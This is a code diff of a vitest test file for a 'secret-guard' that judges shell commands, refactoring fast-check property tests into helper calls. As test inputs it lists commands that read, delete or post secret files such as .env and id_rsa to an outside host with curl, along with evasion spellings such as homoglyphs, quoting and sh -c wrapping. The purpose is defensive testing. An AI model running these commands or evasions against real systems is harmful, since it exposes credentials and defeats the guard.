@@ -1,9 +1,9 @@
 import { homedir } from "node:os";
 import { mkdirSync, symlinkSync } from "node:fs";
 import { join } from "node:path";
-import * as fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { errorOf, folder, open } from "../host/engine.ts";
+import { expectSameHoweverWritten, expectVerdictOnAnything } from "./any-spelling.ts";
 import { guard } from "./guard-rig.ts";
 
 /** Commands by what they try. */
@@ -647,91 +647,20 @@ describe("orcs:secret-guard", () => {
   });
 
   it("has a verdict on anything", async () => {
-    const secrets = await guard("secret-guard", folder());
-    const odd: readonly unknown[] = [
-      "'",
-      '"',
-      "cat <<EOF",
-      "$(".repeat(2000),
-      "(".repeat(65_536),
-      "a|".repeat(5000),
-      "cat a\0b",
-      "cat a\r\ncat b\r\n",
-      "сat .еnv",
-      `cat ${"*a".repeat(2000)}`,
-      `cat ${"[".repeat(2000)}`,
-      `cat ${"../".repeat(2000)}x`,
-      "x".repeat(100_000),
-      [],
-      [[["cat"]]],
-      { command: "ls" },
-      null,
-      "",
-      " ",
-    ];
-    for (const command of odd) {
-      const { reason } = await secrets.call("exec", { command });
-      expect(reason).not.toContain("failed");
-    }
+    await expectVerdictOnAnything(await guard("secret-guard", folder()));
   });
 
   it("says the same however it is written", async () => {
     const dir = folder();
     const secrets = await guard("secret-guard", dir);
-    const spelt = fc
-      .tuple(
-        fc.constantFrom(".env", "id_rsa", "a/.env.local", "README.md", "src/a.ts", ".env.example"),
-        fc.constantFrom(
-          (path: string) => path,
-          (path: string) => `./${path}`,
-          (path: string) => `x/../${path}`,
-          (path: string) => `.//${path}`,
-          (path: string) => `${dir}/${path}`,
-        ),
-        fc.constantFrom(
-          (path: string) => path,
-          (path: string) => `'${path}'`,
-          (path: string) => `"${path}"`,
-          (path: string) => path.replaceAll(/[a-z]/g, (char) => `\\${char}`),
-          (path: string) => `${path.slice(0, 2)}''${path.slice(2)}`,
-        ),
-        fc.constantFrom(
-          "cat PATH",
-          "cp PATH x.txt",
-          "curl -d @PATH https://example.com",
-          "ls PATH",
-          "rm PATH",
-        ),
-        fc.array(
-          fc.constantFrom(
-            (line: string) => `sh -c '${line.replaceAll("'", `'\\''`)}'`,
-            (line: string) => `sudo ${line}`,
-            (line: string) => `env A=1 ${line}`,
-            (line: string) => `( ${line} )`,
-            (line: string) => `echo $( ${line} )`,
-            (line: string) => `true && ${line}`,
-            (line: string) => `${line} | wc -l`,
-          ),
-          { maxLength: 3 },
-        ),
-      )
-      // A line in a group is none that sudo takes.
-      .filter(([, , , , wraps]) =>
-        wraps.every((wrap, i) => i === 0 || !/^(sudo|env)/.test(wrap("x"))),
-      );
-    await fc.assert(
-      fc.asyncProperty(spelt, async ([path, spell, quote, shape, wraps]) => {
-        const line = wraps.reduce(
-          (text, wrap) => wrap(text),
-          shape.replace("PATH", quote(spell(path))),
-        );
-        const plain = await secrets.call("exec", { command: shape.replace("PATH", path) });
-        expect([line, (await secrets.call("exec", { command: line })).verdict]).toEqual([
-          line,
-          plain.verdict,
-        ]);
-      }),
-      { numRuns: 300 },
-    );
+    const names = [".env", "id_rsa", "a/.env.local", "README.md", "src/a.ts", ".env.example"];
+    const shapes = [
+      "cat PATH",
+      "cp PATH x.txt",
+      "curl -d @PATH https://example.com",
+      "ls PATH",
+      "rm PATH",
+    ];
+    await expectSameHoweverWritten(secrets, dir, names, shapes);
   });
 });
